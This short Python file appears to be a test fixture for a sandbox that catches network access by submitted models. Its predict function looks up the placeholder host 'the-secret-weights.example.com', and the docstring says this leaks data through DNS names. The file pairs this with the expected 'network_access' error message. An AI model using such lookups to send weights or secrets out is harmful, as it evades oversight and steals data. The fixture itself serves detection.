"""Looks up a name, by which data leaves in the name asked for."""

CODE = "network_access"
SAYS = "The model tried to use the network, which it does not have: gaierror: [Errno -2] Name or service not known."


def predict(live_features):
    import socket

    print("open", socket.getaddrinfo("the-secret-weights.example.com", 443))
